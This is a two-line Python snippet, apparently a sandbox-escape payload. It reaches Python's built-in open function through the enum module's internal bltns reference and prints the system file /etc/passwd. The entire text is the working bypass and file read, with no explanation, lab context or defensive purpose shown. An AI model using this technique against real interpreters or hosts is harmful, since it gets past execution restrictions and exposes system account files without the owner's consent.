import enum
print(enum.bltns.open("/etc/passwd").read())
